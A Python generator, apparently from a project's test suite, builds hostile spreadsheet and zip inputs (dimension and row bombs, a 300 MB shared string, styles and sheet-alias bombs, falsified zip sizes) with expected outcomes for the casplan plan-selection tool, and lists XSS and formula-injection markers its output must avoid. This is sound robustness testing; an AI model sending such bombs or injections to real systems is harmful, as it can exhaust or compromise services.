#!/usr/bin/env python3
"""Generate the hostile-input corpus for casplan (tests/data/hostile/).

Standard library only, deterministic (fixed zip timestamps, no randomness), so
`python3 make_hostile.py` always rebuilds byte-identical files.  Files larger than
~3 MB (the 50 MB YAML scalars) go to big/, which is git-ignored; pass --no-big to
skip them.  The script also writes EXPECTED.yaml (one entry per case: command,
setup, expected outcome, why) and README.md from the same case table, so the
expectations and the files cannot drift apart.

The expectations were written before anything was run against casplan, from the
analysts' guide (docs/*.md), the policy format (casplan/policy/2023.yaml), the
examples (docs/examples/*.yaml) and `casplan <cmd> --help`; casplan's own code
was not read.

Usage:  python3 make_hostile.py [--no-big] [--out DIR]
"""
from __future__ import annotations

import argparse
import csv
import io
import json
import shutil
import struct
import sys
import unicodedata
import zipfile
from datetime import date
from pathlib import Path
from xml.sax.saxutils import escape as _xml_escape

HERE = Path(__file__).resolve().parent
REPO = HERE.parents[2]
OUT = HERE  # replaced by --out
MAKE_BIG = True
ZIP_DATE = (1980, 1, 1, 0, 0, 0)

CASES: list[dict] = []

LIM = {"seconds": 30, "memory_gb": 2}
LIM_REPORT_REFUSE = {"seconds": 60, "memory_gb": 2}
LIM_REPORT_OK = {"seconds": 300, "memory_gb": 4}

NO_TRACE = "no Python traceback on stdout or stderr"

HTML_MUST = [
    "report.html opened in headless Chromium raises no JavaScript dialog (alert/confirm/prompt), loads nothing from the network and navigates nowhere",
    "no element in report.html's DOM was created by a payload: no <img src=x>, <svg>, <iframe>, no on* event attribute, no a[href^='javascript:'], no element produced by markdown from a payload",
    "each payload is visible as literal text wherever the field is shown (titles, units, names, reasons); '&lt;script&gt;' typed by a unit shows literally as &lt;script&gt; (escaped once, not zero times, not twice)",
    "every inline <script> block that carries data (chart JSON etc.) escapes '<' (\\u003c) so a '</script>' inside a title cannot close it",
]
XLSX_MUST = [
    "no cell in any output workbook is a formula (openpyxl cell.data_type == 'f') and no cell carries a hyperlink",
    "every text cell whose value begins with = + - @ TAB or CR — also after NFKC folding (＝, ＋, ﹦) — is stored so Excel shows it as text (leading apostrophe or quotePrefix style), otherwise unchanged and readable",
    "a phone number such as '+86 10 0000 0000' is still readable as that phone number",
]


def case(**kw):
    kw.setdefault("limits", LIM)
    assert kw["case"] not in {c["case"] for c in CASES}, kw["case"]
    CASES.append(kw)


# --------------------------------------------------------------------------------------
# writing helpers
# --------------------------------------------------------------------------------------

def out(rel: str) -> Path:
    p = OUT / rel
    p.parent.mkdir(parents=True, exist_ok=True)
    return p


def write_bytes(rel: str, data: bytes) -> str:
    out(rel).write_bytes(data)
    return rel


def write_text(rel: str, text: str, encoding="utf-8") -> str:
    out(rel).write_bytes(text.encode(encoding))
    return rel


def csv_text(header, rows) -> str:
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")
    w.writerow(header)
    for r in rows:
        w.writerow([r.get(h, "") if isinstance(r, dict) else r[i] for i, h in enumerate(header)])
    return buf.getvalue()


# --------------------------------------------------------------------------------------
# the small base year (roster, history, plans) every case builds on
# --------------------------------------------------------------------------------------

PLAN_COLS = [
    "计划ID", "单位名称", "培训名称", "培训年度", "培训类别", "培训开始时间", "培训结束时间", "学时", "天数",
    "学员计划参加人数", "工作人员计划人数", "培训对象级别", "经费预算(万元)", "培训地点", "具体地点", "适用岗位",
    "培训方式", "培训对象", "培训目的", "培训内容", "培训关键词", "联系人", "联系人电话", "联系人Email",
    "培训公开范围", "上报时间", "是否申请资助", "是否申请专项技术支持", "精品项目", "同时申报人社部高研项目",
    "讲座场次", "单场学时", "邀请国外专家", "联合举办单位", "附件", "资助推荐排序",
]
NUM_COLS = {"学时", "天数", "学员计划参加人数", "工作人员计划人数", "经费预算(万元)", "讲座场次", "单场学时", "资助推荐排序", "培训年度"}
DATE_COLS = {"培训开始时间", "培训结束时间", "上报时间"}

HX = "中国科学院化学研究所"          # U2-excluded: 2022 execution rate 30 %
WL = "中国科学院物理研究所"          # fine; used for U1 (one per institute)
DL = "中国科学院大连化学物理研究所"
BJ = "中国科学院北京分院"            # a branch: U1 does not apply
RS = "人事局"                       # a department (管理类)
YC = "中国科学院遗传与发育生物学研究所"
YJ = "中国科学院上海有机化学研究所"  # institute with no base application (absurd values)
SY = "中国科学院沈阳应用生态研究所"
SH = "中国科学院上海分院"
WH = "中国科学院武汉植物园"

CAT = {"yanxiu": "专业技术研修班", "duanqi": "专项技术短期培训班", "guanli": "管理类培训"}


def plan(pid, unit, name, track="yanxiu", **over) -> dict:
    r = {
        "计划ID": str(pid), "单位名称": unit, "培训名称": name, "培训年度": "2023", "培训类别": CAT[track],
        "培训开始时间": "2023-05-08", "培训结束时间": "2023-05-12", "学时": "40", "天数": "5",
        "学员计划参加人数": "60", "工作人员计划人数": "4", "培训对象级别": "处级及以下", "经费预算(万元)": "10",
        "培训地点": "本地", "具体地点": "", "适用岗位": {"yanxiu": "科研", "duanqi": "科研；支撑", "guanli": "管理"}[track],
        "培训方式": "线下", "培训对象": "院属各单位从事相关方向工作的科研与管理人员",
        "培训目的": "提升学员在相关前沿领域的研究能力与创新水平，促进院内交流合作",
        "培训内容": "前沿进展专题报告、实验技术实操训练、学员研讨交流与典型案例分析",
        "培训关键词": "", "联系人": "测试联系人", "联系人电话": "010-00000000", "联系人Email": "contact@example.invalid",
        "培训公开范围": "全院", "上报时间": "2022-11-10", "是否申请资助": "是", "是否申请专项技术支持": "否",
        "精品项目": "否", "同时申报人社部高研项目": "否", "讲座场次": "", "单场学时": "", "邀请国外专家": "否",
        "联合举办单位": "", "附件": "", "资助推荐排序": "1",
    }
    r.update(over)
    return r


BASE_PLANS = [
    plan(2399001, HX, "高分子材料表征技术研修班"),
    plan(2399002, WL, "量子材料前沿研修班"),
    plan(2399003, DL, "催化与能源化学研修班"),
    plan(2399004, BJ, "科研管理与成果转化研修班"),
    plan(2399005, RS, "干部人事管理业务培训", "guanli"),
    plan(2399006, YC, "基因编辑技术短期培训班", "duanqi"),
]
BASE_IDS = "P2399001 … P2399006"
assert list(plan(1, "u", "n").keys()) == PLAN_COLS

ROSTER_COLS = ["单位名称", "单位类型", "所属分院", "别名"]
ROSTER = [
    [HX, "研究所", "北京分院", "化学所"],
    [WL, "研究所", "北京分院", "物理所"],
    [DL, "研究所", "沈阳分院", "大连化物所"],
    [BJ, "分院", "北京分院", ""],
    [RS, "院机关部门", "院机关", ""],
    [YC, "研究所", "北京分院", "遗传发育所"],
    [YJ, "研究所", "上海分院", "上海有机所"],
    [SY, "研究所", "沈阳分院", "沈阳生态所"],
    [SH, "分院", "上海分院", ""],
    [WH, "植物园", "武汉分院", "武汉植物园"],
]

HIST_COLS = ["单位名称", "年度", "培训名称", "项目类别", "是否举办", "是否院级资助", "是否实施", "是否完成",
             "资助金额(万元)", "已支出(万元)", "统计截止日期"]


def hist(unit, name, funded, spent, year="2022", cat="专业技术研修班"):
    return [unit, year, name, cat, "是", "是", "是", "是", str(funded), str(spent), "2022-11-30"]


HISTORY = [
    hist(HX, "高分子材料表征技术研修班", 20, 6),        # 30 % -> U2-LOW-RATE
    hist(WL, "量子材料前沿研修班", 20, 18),
    hist(DL, "催化与能源化学研修班", 15, 15),
    hist(BJ, "科研管理研修班", 10, 9),
    hist(YC, "基因编辑技术短期培训班", 10, 8, cat="专项技术短期培训班"),
    hist(WL, "量子材料前沿研修班", 18, 18, year="2021"),
]

SEL = "select {file} --roster base/roster.csv --history base/history.csv --json"
SEL_BASE = "select base/plans.csv --roster base/roster.csv --history base/history.csv --json"
CHK = "check {file} --roster base/roster.csv --history base/history.csv --json"


def plans_csv(rel, extra=(), base=True, encoding="utf-8"):
    rows = (list(BASE_PLANS) if base else []) + list(extra)
    return write_text(rel, csv_text(PLAN_COLS, rows), encoding)


# --------------------------------------------------------------------------------------
# minimal hand-built xlsx (so the XML can be made hostile)
# --------------------------------------------------------------------------------------

NS_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
NS_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL_WS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
REL_ST = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles"
REL_SS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"
CT_WS = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"

STYLES = (
    f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<styleSheet xmlns="{NS_MAIN}">'
    '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
    '<fills count="2"><fill><patternFill patternType="none"/></fill><fill><patternFill patternType="gray125"/></fill></fills>'
    '<borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
    '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
    '<cellXfs count="2"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
    '<xf numFmtId="14" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs>'
    '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles></styleSheet>'
).encode()


def xesc(s: str) -> str:
    return _xml_escape(s).replace("\r", "&#13;").replace("\t", "&#9;").replace('"', "&quot;")


def col_letter(i: int) -> str:  # 0-based
    s = ""
    i += 1
    while i:
        i, r = divmod(i - 1, 26)
        s = chr(65 + r) + s
    return s


def serial(d: str) -> int:
    y, m, dd = map(int, d.split("-"))
    return (date(y, m, dd) - date(1899, 12, 30)).days


def cell_xml(ref: str, v) -> str:
    if v is None or v == "":
        return ""
    if isinstance(v, tuple):
        kind, val = v
        if kind == "d":
            return f'<c r="{ref}" s="1"><v>{val}</v></c>'
        if kind == "n":
            return f'<c r="{ref}"><v>{val}</v></c>'
        if kind == "s":
            return f'<c r="{ref}" t="s"><v>{val}</v></c>'
        if kind == "raw":
            return val.replace("{ref}", ref)
        raise ValueError(kind)
    if isinstance(v, (int, float)):
        return f'<c r="{ref}"><v>{v!r}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{xesc(v)}</t></is></c>'


def typed(row: dict) -> list:
    """A plan dict -> xlsx cell values with numbers and dates typed as Excel would."""
    vals = []
    for h in PLAN_COLS:
        v = row.get(h, "")
        if h in DATE_COLS and len(v) == 10 and v[4] == "-":
            vals.append(("d", serial(v)))
        elif h in NUM_COLS and v.replace(".", "", 1).isdigit():
            vals.append(("n", v))
        else:
            vals.append(v)
    return vals


def rows_xml(rows, start=1) -> str:
    parts = []
    for i, row in enumerate(rows, start):
        cells = "".join(cell_xml(f"{col_letter(j)}{i}", v) for j, v in enumerate(row))
        parts.append(f'<row r="{i}">{cells}</row>')
    return "".join(parts)


def sheet_xml(rows, dimension=None, before="", after_rows="", doctype="") -> bytes:
    ncol = max(len(r) for r in rows) if rows else 1
    dim = dimension or f"A1:{col_letter(ncol - 1)}{max(len(rows), 1)}"
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{doctype}'
            f'<worksheet xmlns="{NS_MAIN}" xmlns:r="{NS_R}"><dimension ref="{dim}"/>'
            f'<sheetData>{before}{rows_xml(rows)}{after_rows}</sheetData></worksheet>').encode()


def plan_rows(extra=(), base=True):
    return [PLAN_COLS] + [typed(r) for r in ((list(BASE_PLANS) if base else []) + list(extra))]


def zinfo(name, method=zipfile.ZIP_DEFLATED):
    zi = zipfile.ZipInfo(name, date_time=ZIP_DATE)
    zi.compress_type = method
    zi.external_attr = 0o644 << 16
    return zi


def build_xlsx(rel, sheets, sst=None, *, workbook=None, wb_rels=None, content_types=None,
               extra=(), styles=STYLES, skip=()):
    """sheets: list of (name, bytes | iterable-of-bytes).  sst: list[str] | bytes | iterable | None."""
    p = out(rel)
    names = [n for n, _ in sheets]
    if content_types is None:
        ov = "".join(f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="{CT_WS}"/>'
                     for i in range(1, len(sheets) + 1))
        if sst is not None:
            ov += ('<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
                   'officedocument.spreadsheetml.sharedStrings+xml"/>')
        content_types = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            'spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            f'spreadsheetml.styles+xml"/>{ov}</Types>').encode()
    if workbook is None:
        sh = "".join(f'<sheet name="{xesc(n)}" sheetId="{i}" r:id="rId{i}"/>' for i, n in enumerate(names, 1))
        workbook = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="{NS_MAIN}" '
                    f'xmlns:r="{NS_R}"><sheets>{sh}</sheets></workbook>').encode()
    if wb_rels is None:
        rl = "".join(f'<Relationship Id="rId{i}" Type="{REL_WS}" Target="worksheets/sheet{i}.xml"/>'
                     for i in range(1, len(sheets) + 1))
        rl += f'<Relationship Id="rIdSt" Type="{REL_ST}" Target="styles.xml"/>'
        if sst is not None:
            rl += f'<Relationship Id="rIdSs" Type="{REL_SS}" Target="sharedStrings.xml"/>'
        wb_rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://'
                   f'schemas.openxmlformats.org/package/2006/relationships">{rl}</Relationships>').encode()
    root_rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.'
                 'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
                 'openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
                 '</Relationships>').encode()
    with zipfile.ZipFile(p, "w", compresslevel=9) as z:
        def put(name, data):
            if name in skip:
                return
            if isinstance(data, (bytes, bytearray)):
                z.writestr(zinfo(name), data)
            else:
                with z.open(zinfo(name), "w", force_zip64=False) as f:
                    for chunk in data:
                        f.write(chunk)
        put("[Content_Types].xml", content_types)
        put("_rels/.rels", root_rels)
        put("xl/workbook.xml", workbook)
        put("xl/_rels/workbook.xml.rels", wb_rels)
        if styles is not None:
            put("xl/styles.xml", styles)
        for i, (_, data) in enumerate(sheets, 1):
            put(f"xl/worksheets/sheet{i}.xml", data)
        if sst is not None:
            if isinstance(sst, list):
                items = "".join(f'<si><t xml:space="preserve">{xesc(s)}</t></si>' for s in sst)
                sst = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst xmlns="{NS_MAIN}" '
                       f'count="{len(sst)}" uniqueCount="{len(sst)}">{items}</sst>').encode()
            put("xl/sharedStrings.xml", sst)
        for name, data in extra:
            put(name, data)
    return rel


def repeat(chunk: bytes, n: int, head=b"", tail=b"", block=20000):
    yield head
    big = chunk * block
    full, rest = divmod(n, block)
    for _ in range(full):
        yield big
    yield chunk * rest
    yield tail


# zip header surgery ---------------------------------------------------------------

def _central_entries(data: bytes):
    eocd = data.rfind(b"PK\x05\x06")
    cd_size, cd_off = struct.unpack_from("<II", data, eocd + 12)
    pos, res = cd_off, []
    while pos < cd_off + cd_size:
        assert data[pos:pos + 4] == b"PK\x01\x02"
        nlen, elen, clen = struct.unpack_from("<HHH", data, pos + 28)
        lho = struct.unpack_from("<I", data, pos + 42)[0]
        name = data[pos + 46:pos + 46 + nlen].decode()
        res.append((name, pos, lho))
        pos += 46 + nlen + elen + clen
    return res


def patch_zip(rel, name, *, usize=None, method=None, flag_or=None, local_name=None, csize_add=None):
    p = out(rel)
    data = bytearray(p.read_bytes())
    for n, cpos, lpos in _central_entries(bytes(data)):
        if n != name:
            continue
        if usize is not None:
            struct.pack_into("<I", data, cpos + 24, usize)
            struct.pack_into("<I", data, lpos + 22, usize)
        if method is not None:
            struct.pack_into("<H", data, cpos + 10, method)
            struct.pack_into("<H", data, lpos + 8, method)
        if flag_or is not None:
            for off in (cpos + 8, lpos + 6):
                struct.pack_into("<H", data, off, struct.unpack_from("<H", data, off)[0] | flag_or)
        if local_name is not None:
            ln = local_name.encode()
            assert len(ln) == len(name.encode())
            data[lpos + 30:lpos + 30 + len(ln)] = ln
    p.write_bytes(bytes(data))


def corrupt_entry_data(rel, name):
    p = out(rel)
    data = bytearray(p.read_bytes())
    for n, cpos, lpos in _central_entries(bytes(data)):
        if n == name:
            csize = struct.unpack_from("<I", data, cpos + 20)[0]
            nlen, elen = struct.unpack_from("<HH", data, lpos + 26)
            start = lpos + 30 + nlen + elen
            for k in range(csize // 3, csize // 3 + 24):
                data[start + k] ^= 0x5A
    p.write_bytes(bytes(data))


# --------------------------------------------------------------------------------------
# 0. base year and controls
# --------------------------------------------------------------------------------------

def gen_base():
    plans_csv("base/plans.csv")
    plans_csv("base/计划.csv")  # same content; for the GBK params file (a non-ASCII path)
    write_text("base/roster.csv", csv_text(ROSTER_COLS, ROSTER))
    write_text("base/history.csv", csv_text(HIST_COLS, HISTORY))
    write_text("base/params.yaml",
               "# 敌意语料的基准年度（路径相对本文件）\nyear: 2023\nplans: plans.csv\nhistory: history.csv\n"
               "roster: roster.csv\nrobustness_draws: 0\n")
    build_xlsx("base/plans.xlsx", [("培训计划", sheet_xml(plan_rows()))])
    write_text("base/reviews.csv", csv_text(["申报编号", "评审专家", "评分"], [
        ["P2399002", "专家甲", "88"], ["P2399003", "专家甲", "75"], ["P2399004", "专家甲", "80"],
        ["P2399002", "专家乙", "70"], ["P2399003", "专家乙", "90"], ["P2399006", "专家乙", "60"]]))

    case(case="control_base_select", file="base/plans.csv", command=SEL, expect="decided",
         decision="P2399002, P2399003, P2399004, P2399005, P2399006 selected; P2399001 (中国科学院化学研究所) not selected, U2-LOW-RATE (2022 rate 6/20 = 30 %)",
         must=["exit 0", "P2399001 not selected and its reason names U2-LOW-RATE", NO_TRACE],
         why="control: the little base year every other case builds on must itself work, or the other expectations mean nothing")
    case(case="control_base_validate_xlsx", file="base/plans.xlsx", command="validate {file} --roster base/roster.csv",
         expect="decided", decision="读取 6，接收 6，搁置 0 (same rows as base/plans.csv, typed numbers and Excel dates)",
         must=["exit 0", NO_TRACE],
         why="control for the hand-built xlsx writer used by every spreadsheet case: a valid minimal workbook")
    case(case="control_base_report", file="base/params.yaml", command="report --params {file} --out {tmp}",
         expect="decided", limits=LIM_REPORT_OK,
         decision="report generated under {tmp}/2023/<时间>/ with report.html, report.pdf, 遴选名单.xlsx, manifest.json, selection.json, diff.json; {tmp}/2023/latest points to it",
         must=["exit 0", NO_TRACE],
         why="control for every report/params/scenario case")


# --------------------------------------------------------------------------------------
# 1. spreadsheet bombs and broken containers
# --------------------------------------------------------------------------------------

def gen_sheets():
    V = "validate {file}"

    # 1a dimension claims the whole grid
    build_xlsx("sheets/xlsx_dimension_bomb.xlsx",
               [("培训计划", sheet_xml(plan_rows(), dimension="A1:XFD1048576"))])
    case(case="xlsx_dimension_bomb", file="sheets/xlsx_dimension_bomb.xlsx", command=V, expect="refused",
         also_acceptable="decided: the 6 real rows read (读取 6，接收 6) without allocating the claimed grid — Excel ignores <dimension>",
         why='the sheet\'s <dimension ref="A1:XFD1048576"/> claims 17 billion cells but holds 7 rows; the reader must not size anything from it (refuse before allocating, or ignore it)')

    far = plan_rows() + []
    sx = sheet_xml(far, dimension="A1:XFD1048576",
                   after_rows='<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>')
    build_xlsx("sheets/xlsx_far_corner_cell.xlsx", [("培训计划", sx)])
    case(case="xlsx_far_corner_cell", file="sheets/xlsx_far_corner_cell.xlsx", command=V, expect="refused",
         also_acceptable="decided: 读取 6，接收 6; the lone cell XFD1048576 (no header above it) noted, never a dense 1048576×16384 grid",
         why="one real cell at XFD1048576 makes every dense reader (DataFrame of the used range) allocate 17 G cells; the file itself is 2 KB")

    # 1b ~20 M rows, highly compressible (rows without r attributes: perfectly periodic XML)
    hdr = '<row><c t="inlineStr"><is><t>培训名称</t></is></c><c t="inlineStr"><is><t>单位名称</t></is></c><c t="inlineStr"><is><t>培训类别</t></is></c></row>'.encode()
    head = f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="{NS_MAIN}"><sheetData>'.encode() + hdr
    tail = b"</sheetData></worksheet>"
    build_xlsx("sheets/xlsx_rows_20m.xlsx",
               [("培训计划", repeat(b"<row><c><v>1</v></c></row>", 20_000_000, head, tail))])
    case(case="xlsx_rows_20m", file="sheets/xlsx_rows_20m.xlsx", command=V, expect="refused",
         why="~1.3 MB zip whose sheet XML is 520 MB: a header and 20,000,000 data rows, more than Excel's 1,048,576-row limit; must refuse (too many rows) in bounded time and memory, not build 20 M set-aside records")

    sst3 = ["单位名称", "培训名称", "培训类别", BJ, "测试研修班", "专业技术研修班"]
    head3 = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="{NS_MAIN}"><sheetData>'
             '<row><c t="s"><v>0</v></c><c t="s"><v>1</v></c><c t="s"><v>2</v></c></row>').encode()
    build_xlsx("sheets/xlsx_rows_1m_identical.xlsx",
               [("培训计划", repeat(b'<row><c t="s"><v>3</v></c><c t="s"><v>4</v></c><c t="s"><v>5</v></c></row>',
                                  1_048_575, head3, tail))], sst=sst3)
    case(case="xlsx_rows_1m_identical", file="sheets/xlsx_rows_1m_identical.xlsx", command=V, expect="refused",
         also_acceptable="decided within the limits: one application (中国科学院北京分院「测试研修班」) and 1,048,574 rows reported as duplicates, printed output bounded (summary, not a million lines)",
         why="exactly Excel's maximum (1,048,576 rows incl. header) of one identical row: legal for Excel, absurd for a plan export (the whole CAS files ~3,000 plans); must stay within 30 s / 2 GB either way")

    head_e = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="{NS_MAIN}"><sheetData>'
              ).encode() + hdr
    last = f'<row><c t="inlineStr"><is><t>测试研修班</t></is></c><c t="inlineStr"><is><t>{BJ}</t></is></c><c t="inlineStr"><is><t>专业技术研修班</t></is></c></row>'.encode()
    build_xlsx("sheets/xlsx_empty_rows_20m.xlsx", [("培训计划", repeat(b"<row/>", 20_000_000, head_e, last + tail))])
    case(case="xlsx_empty_rows_20m", file="sheets/xlsx_empty_rows_20m.xlsx", command=V, expect="refused",
         why="20,000,000 empty <row/> elements then one data row: the data row would be row 20,000,002, beyond Excel's grid; refuse in bounded time instead of counting 20 M empty rows")

    build_xlsx("sheets/xlsx_row_number_huge.xlsx", [("培训计划", sheet_xml(plan_rows(), after_rows=(
        f'<row r="2000000000"><c r="B2000000000" t="inlineStr"><is><t>{BJ}</t></is></c>'
        '<c r="C2000000000" t="inlineStr"><is><t>超出网格的研修班</t></is></c>'
        '<c r="E2000000000" t="inlineStr"><is><t>专业技术研修班</t></is></c></row>')))])
    case(case="xlsx_row_number_huge", file="sheets/xlsx_row_number_huge.xlsx", command=V, expect="refused",
         why='a <row r="2000000000"> after 7 good rows: a reader that pads up to the row number allocates 2 G rows; row numbers above 1,048,576 are invalid')

    # 1c one enormous shared string (300 MB of 'A', ~300 KB compressed)
    n_big = 300_000_000
    big_plan = plan(2399711, YJ, "超长内容的研修班")
    base_sst = list(dict.fromkeys(PLAN_COLS + [v for r in BASE_PLANS + [big_plan] for v in r.values()]))
    idx = {s: i for i, s in enumerate(base_sst)}
    big_index = len(base_sst)
    rows = [[("s", idx[h]) for h in PLAN_COLS]]
    for r in BASE_PLANS + [big_plan]:
        row = []
        for h in PLAN_COLS:
            v = r[h]
            if h == "培训内容" and r["计划ID"] == "2399711":
                row.append(("s", big_index))
            elif v == "":
                row.append(None)
            else:
                row.append(("s", idx[v]))
        rows.append(row)
    items = "".join(f'<si><t xml:space="preserve">{xesc(s)}</t></si>' for s in base_sst).encode()
    sst_head = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst xmlns="{NS_MAIN}" '
                f'count="{big_index + 1}" uniqueCount="{big_index + 1}">').encode() + items + b"<si><t>"
    build_xlsx("sheets/xlsx_huge_shared_string.xlsx", [("培训计划", sheet_xml(rows))],
               sst=repeat(b"A" * 1000, n_big // 1000, sst_head, b"</t></si></sst>"))
    case(case="xlsx_huge_shared_string", file="sheets/xlsx_huge_shared_string.xlsx", command=V, expect="refused",
         why="sharedStrings.xml holds one 300,000,000-character string (the 培训内容 of P2399711), ~300 KB compressed; Excel's cell limit is 32,767 characters. Refuse (naming the cell or the part) within 2 GB instead of materialising it, copying it into a DataFrame and echoing it")

    sst_lie = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst xmlns="{NS_MAIN}" '
               f'count="4294967295" uniqueCount="4294967295">' +
               "".join(f'<si><t xml:space="preserve">{xesc(s)}</t></si>' for s in base_sst) + "</sst>").encode()
    build_xlsx("sheets/xlsx_sst_count_lie.xlsx", [("培训计划", sheet_xml(rows[:-1]))], sst=sst_lie)
    case(case="xlsx_sst_count_lie", file="sheets/xlsx_sst_count_lie.xlsx", command=V + " --roster base/roster.csv",
         expect="decided", decision="读取 6，接收 6，搁置 0 — the base rows; the count/uniqueCount attributes (4,294,967,295) are advisory and ignored",
         must=["exit 0", "peak memory well under 2 GB (nothing pre-sized from uniqueCount)", NO_TRACE],
         why="the shared-string table claims 4 billion entries but has ~200; a reader that pre-allocates from the attribute dies, Excel opens it fine")

    # 1c' styles bomb
    xf = b'<xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
    st_head = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<styleSheet xmlns="{NS_MAIN}">'
               '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
               '<fills count="2"><fill><patternFill patternType="none"/></fill><fill><patternFill patternType="gray125"/></fill></fills>'
               '<borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
               '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
               '<cellXfs count="1000002"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
               '<xf numFmtId="14" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>').encode()
    build_xlsx("sheets/xlsx_styles_bomb.xlsx", [("培训计划", sheet_xml(plan_rows()))],
               styles=repeat(xf, 1_000_000, st_head, b"</cellXfs></styleSheet>"))
    case(case="xlsx_styles_bomb", file="sheets/xlsx_styles_bomb.xlsx", command=V, expect="decided",
         decision="读取 6，接收 6 (the base rows) within 30 s / 2 GB",
         also_acceptable="refused (exit 2, one Chinese line naming the file: too many cell styles) within the limits",
         why="styles.xml declares 1,000,002 cell formats (~180 KB compressed, 62 MB XML); readers that build a Python object per style can take minutes and gigabytes")

    # sheet alias bomb: 20,000 sheets all pointing to one worksheet part
    n = 20_000
    sh = "".join(f'<sheet name="S{i}" sheetId="{i}" r:id="rId{i}"/>' for i in range(1, n + 1))
    wb = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="{NS_MAIN}" '
          f'xmlns:r="{NS_R}"><sheets>{sh}</sheets></workbook>').encode()
    rl = "".join(f'<Relationship Id="rId{i}" Type="{REL_WS}" Target="worksheets/sheet1.xml"/>' for i in range(1, n + 1))
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.'
            f'openxmlformats.org/package/2006/relationships">{rl}<Relationship Id="rIdSt" Type="{REL_ST}" '
            'Target="styles.xml"/></Relationships>').encode()
    build_xlsx("sheets/xlsx_sheet_alias_bomb.xlsx", [("S1", sheet_xml(plan_rows()))], workbook=wb, wb_rels=rels)
    case(case="xlsx_sheet_alias_bomb", file="sheets/xlsx_sheet_alias_bomb.xlsx", command=V + " --roster base/roster.csv",
         expect="refused",
         also_acceptable="decided: the one worksheet part read once (读取 6，接收 6); never 120,000 rows of 6 applications repeated",
         must=["P2399001 … P2399006 never counted more than once"],
         why="workbook.xml lists 20,000 sheets whose relationships all target the same worksheets/sheet1.xml: 20,000× amplification of rows and of header detection, and each row's ID repeated 20,000 times")

    # 1d zip whose declared sizes lie
    body = sheet_xml(plan_rows())
    pad_head, pad_tail = body.split(b"</sheetData>")
    build_xlsx("sheets/zip_size_lie_small.xlsx",
               [("培训计划", repeat(b"<row/>", 33_000_000, pad_head, b"</sheetData>" + pad_tail))])
    patch_zip("sheets/zip_size_lie_small.xlsx", "xl/worksheets/sheet1.xml", usize=2048)
    case(case="zip_size_lie_small", file="sheets/zip_size_lie_small.xlsx", command=V, expect="refused",
         why="the worksheet's local and central headers declare 2,048 bytes uncompressed but the deflate stream expands to ~200 MB: a size-based guard fooled by the header must still stop (bounded inflate) and the CRC mismatch means a corrupt file")

    build_xlsx("sheets/zip_size_lie_big.xlsx", [("培训计划", sheet_xml(plan_rows()))])
    patch_zip("sheets/zip_size_lie_big.xlsx", "xl/worksheets/sheet1.xml", usize=0xFFFFFFF0)
    case(case="zip_size_lie_big", file="sheets/zip_size_lie_big.xlsx", command=V, expect="refused",
         also_acceptable="decided: 读取 6，接收 6 — the data inflate to a valid sheet with a correct CRC (Python's zipfile tolerates the larger declared size); but never a 4 GB allocation",
         why="declared uncompressed size 4,294,967,280 bytes for a 3 KB sheet: a reader that pre-allocates from the header asks for 4 GB; the size mismatch makes it a corrupt zip")

    build_xlsx("sheets/zip_duplicate_entry.xlsx", [("培训计划", sheet_xml(plan_rows()))],
               extra=[("xl/worksheets/sheet1.xml",
                       sheet_xml(plan_rows([plan(2399001, YJ, "高分子材料表征技术研修班", **{"经费预算(万元)": "60"})], base=False)))])
